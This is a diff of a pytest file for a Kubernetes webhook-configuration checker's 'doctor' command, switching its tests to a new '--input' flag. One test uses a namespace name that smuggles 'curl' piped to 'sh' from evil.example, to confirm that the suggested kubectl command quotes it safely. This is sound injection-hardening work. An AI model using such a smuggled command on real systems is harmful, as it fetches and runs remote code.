@@ -28,24 +28,24 @@ def written(path: Path, *documents: Any) -> str:
 
 def test_reads_standard_input(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
     monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(SAFE.read_bytes())))
-    assert main(["doctor"]) == 0
+    assert main(["doctor", "--input", "-"]) == 0
     assert capsys.readouterr().out == "safe: 1 webhook entry that leases can reach (leases.lease-webhook.svc)\n"
 
 
 def test_reads_what_kubectl_prints_as_json(tmp_path: Path) -> None:
     path = tmp_path / "list.json"
     path.write_text(json.dumps({"kind": "List", "items": [document()]}, indent=1))
-    assert main(["doctor", str(path)]) == 0
+    assert main(["doctor", "--input", str(path)]) == 0
 
 
 def test_reads_braces_of_yaml_behind_a_separator(tmp_path: Path) -> None:
     path = tmp_path / "x.yaml"
     path.write_text(SAFE.read_text() + "\n---\n{apiVersion: v1, kind: Namespace, metadata: {name: shop}}\n")
-    assert main(["doctor", str(path)]) == 0
+    assert main(["doctor", "--input", str(path)]) == 0
 
 
 def test_says_what_can_happen_and_what_to_change(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    assert main(["doctor", written(tmp_path / "x.yaml", document(timeoutSeconds=10))]) == 1
+    assert main(["doctor", "--input", written(tmp_path / "x.yaml", document(timeoutSeconds=10))]) == 1
     assert capsys.readouterr().out == (
         "lease-webhook, leases.lease-webhook.svc\n"
         "  timeout-too-long  webhooks[0].timeoutSeconds: 10\n"
@@ -61,7 +61,7 @@ def test_says_what_can_happen_and_what_to_change(tmp_path: Path, capsys: pytest.
 def test_what_somebody_chose_is_safe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     config = document(matchConditions=None)
     config["metadata"]["annotations"] = {"lease-webhook/renewals": "reviewed", "lease-webhook/other": "no"}
-    assert main(["doctor", written(tmp_path / "x.yaml", config)]) == 0
+    assert main(["doctor", "--input", written(tmp_path / "x.yaml", config)]) == 0
     assert capsys.readouterr().out.startswith("safe: ")
 
 
@@ -80,7 +80,7 @@ def test_what_somebody_chose_is_safe(tmp_path: Path, capsys: pytest.CaptureFixtu
 def test_what_the_api_server_refuses_is_malformed(
     field: str, value: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    assert main(["doctor", written(tmp_path / "x.yaml", document(**{field: value}))]) == 1
+    assert main(["doctor", "--input", written(tmp_path / "x.yaml", document(**{field: value}))]) == 1
     output = capsys.readouterr().out
     assert "  malformed  " in output
     assert f"webhooks[0].{field}" in output
@@ -100,14 +100,14 @@ def test_what_the_api_server_refuses_is_malformed(
 def test_unreadable(content: bytes, text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     path = tmp_path / "x.yaml"
     path.write_bytes(content)
-    assert main(["doctor", str(path)]) == 2
+    assert main(["doctor", "--input", str(path)]) == 2
     error = capsys.readouterr().err
     assert text in error
     assert error.count("\n") == 1
 
 
 def test_a_file_that_is_not_there(capsys: pytest.CaptureFixture[str]) -> None:
-    assert main(["doctor", "/nowhere.yaml"]) == 2
+    assert main(["doctor", "--input", "/nowhere.yaml"]) == 2
     error = capsys.readouterr().err
     assert error.startswith("lease-webhook: /nowhere.yaml")
     assert error.endswith(": No such file or directory\n")
@@ -116,21 +116,21 @@ def test_a_file_that_is_not_there(capsys: pytest.CaptureFixture[str]) -> None:
 def test_braces_that_are_yaml(tmp_path: Path) -> None:
     path = tmp_path / "x.yaml"
     path.write_text("{kind: ValidatingWebhookConfiguration}")
-    assert main(["doctor", str(path)]) == 1
+    assert main(["doctor", "--input", str(path)]) == 1
 
 
 def test_a_named_policy_comes_before_the_one_beside_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    assert main(["doctor", str(DATA / "policy-off.yaml"), "--policy", "standard"]) == 0
+    assert main(["doctor", "--input", str(DATA / "policy-off.yaml"), "--policy", "standard"]) == 0
     off = tmp_path / "policy.yaml"
     off.write_text("apiVersion: lease-webhook/v1\nmode: off\n")
-    assert main(["doctor", str(SAFE), "--policy", str(off)]) == 1
+    assert main(["doctor", "--input", str(SAFE), "--policy", str(off)]) == 1
     assert "policy\n  kill-switch-on  " in capsys.readouterr().out
 
 
 def test_a_bad_policy_is_unreadable(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    assert main(["doctor", str(SAFE), "--policy", str(tmp_path / "none.yaml")]) == 2
+    assert main(["doctor", "--input", str(SAFE), "--policy", str(tmp_path / "none.yaml")]) == 2
     policy = {"kind": "ConfigMap", "metadata": {"namespace": "lease-webhook"}, "data": {"policy.yaml": "mode: x"}}
-    assert main(["doctor", written(tmp_path / "x.yaml", document(), policy)]) == 2
+    assert main(["doctor", "--input", written(tmp_path / "x.yaml", document(), policy)]) == 2
     assert all(line.startswith("lease-webhook: policy: ") for line in capsys.readouterr().err.splitlines())
 
 
@@ -142,7 +142,7 @@ def test_a_binding_is_content_with_an_entry_that_sees_renewals(tmp_path: Path) -
         "matchExpressions": [*renewals["namespaceSelector"]["matchExpressions"], expression]
     }
     documents[0]["webhooks"].append(renewals)
-    assert main(["doctor", written(tmp_path / "x.yaml", *documents)]) == 0
+    assert main(["doctor", "--input", written(tmp_path / "x.yaml", *documents)]) == 0
 
 
 BINDING = """
@@ -181,7 +181,10 @@ def test_a_namespace_beside_it_shows_whether_a_binding_holds(
 ) -> None:
     (tmp_path / "policy.yaml").write_text(BINDING)
     whole = {"apiVersion": "v1", "kind": "List", "items": [opted_in(), *beside]}
-    assert main(["doctor", written(tmp_path / "x.yaml", whole), "--policy", str(tmp_path / "policy.yaml")]) == code
+    assert (
+        main(["doctor", "--input", written(tmp_path / "x.yaml", whole), "--policy", str(tmp_path / "policy.yaml")])
+        == code
+    )
     assert ("binding-without-renewals" in capsys.readouterr().out) == bool(code)
 
 
@@ -191,7 +194,7 @@ def test_the_namespace_of_a_binding_is_one_word_of_the_command_to_label_it(
     name = "shop;curl${IFS}evil.example|sh"
     (tmp_path / "policy.yaml").write_text(BINDING.replace("namespace: shop", f'namespace: "{name}"'))
     file = written(tmp_path / "x.yaml", document())
-    assert main(["doctor", file, "--policy", str(tmp_path / "policy.yaml"), "--format", "json"]) == 1
+    assert main(["doctor", "--input", file, "--policy", str(tmp_path / "policy.yaml"), "--format", "json"]) == 1
     (binding,) = json.loads(capsys.readouterr().out)["entries"][-1]["findings"]
     assert f"kubectl label namespace '{name}' lease-webhook/renewals=reviewed" in binding["fix"]
 
@@ -200,7 +203,7 @@ def test_advice_for_the_webhooks_of_others_is_theirs(tmp_path: Path, capsys: pyt
     name, words = "scanner", "leave the group coordination.k8s.io out of its rules"
     whole = yaml.safe_load((DATA / "catch-all.yaml").read_text())
     whole["metadata"]["name"] = name
-    assert main(["doctor", written(tmp_path / "x.yaml", whole), "--format", "json"]) == 1
+    assert main(["doctor", "--input", written(tmp_path / "x.yaml", whole), "--format", "json"]) == 1
     found = json.loads(capsys.readouterr().out)
     changes = {one["check"]: one["fix"] for one in found["entries"][0]["findings"]}
     assert words in changes["wildcard"]
@@ -210,7 +213,7 @@ def test_advice_for_the_webhooks_of_others_is_theirs(tmp_path: Path, capsys: pyt
 
 
 def test_a_webhook_with_wildcards_is_not_taken_for_a_registration(capsys: pytest.CaptureFixture[str]) -> None:
-    assert main(["doctor", str(DATA / "catch-all.yaml"), "--format", "json"]) == 1
+    assert main(["doctor", "--input", str(DATA / "catch-all.yaml"), "--format", "json"]) == 1
     (finding,) = json.loads(capsys.readouterr().out)["entries"][-1]["findings"]
     assert finding["check"] == "not-registered"
     assert finding["place"] == (
@@ -225,7 +228,7 @@ def test_no_kind_is_too_odd(kind: object) -> None:
     stdin = io.TextIOWrapper(io.BytesIO(json.dumps(whole).encode()))
     with pytest.MonkeyPatch.context() as patch:
         patch.setattr("sys.stdin", stdin)
-        assert main(["doctor"]) in {0, 2}
+        assert main(["doctor", "--input", "-"]) in {0, 2}
 
 
 FIELDS = st.sampled_from(sorted(document()["webhooks"][0]))
@@ -238,7 +241,7 @@ def test_no_value_of_a_field_is_too_odd(field: str, value: object) -> None:
     stdin = io.TextIOWrapper(io.BytesIO(json.dumps(config).encode()))
     with pytest.MonkeyPatch.context() as patch:
         patch.setattr("sys.stdin", stdin)
-        assert main(["doctor"]) in {0, 1}
+        assert main(["doctor", "--input", "-"]) in {0, 1}
 
 
 @pytest.mark.parametrize("timeout", [2, 30], ids=["safe", "not safe"])
@@ -247,7 +250,7 @@ def test_a_name_that_no_api_server_stores_is_shown_in_part(
 ) -> None:
     whole = document(timeoutSeconds=timeout, name="x" * 100_000)
     whole["metadata"]["name"] = "y" * 100_000
-    assert main(["doctor", written(tmp_path / "x.yaml", whole)]) == int(timeout > 2)
+    assert main(["doctor", "--input", written(tmp_path / "x.yaml", whole)]) == int(timeout > 2)
     assert len(capsys.readouterr().out) < 2000
 
 
@@ -265,7 +268,6 @@ def test_without_an_input_the_cluster_is_asked(
     )
     kubectl.chmod(0o755)
     monkeypatch.setenv("PATH", f"{tmp_path}:/bin:/usr/bin")
-    monkeypatch.setattr("webhook.cli.doctor._is_piped", lambda: False)
     assert main(["doctor"]) == 1
     out, err = capsys.readouterr()
     assert "timeout" in out
@@ -324,7 +326,6 @@ def test_what_was_not_read_is_not_said_to_be_missing(
     )
     kubectl.chmod(0o755)
     monkeypatch.setenv("PATH", f"{tmp_path}:/bin:/usr/bin")
-    monkeypatch.setattr("webhook.cli.doctor._is_piped", lambda: False)
     assert main(["doctor", "--policy", str(policy), "--format", "json"]) == int(missing > 0)
     out, err = capsys.readouterr()
     found = [one["check"] for entry in json.loads(out)["entries"] for one in entry["findings"]]
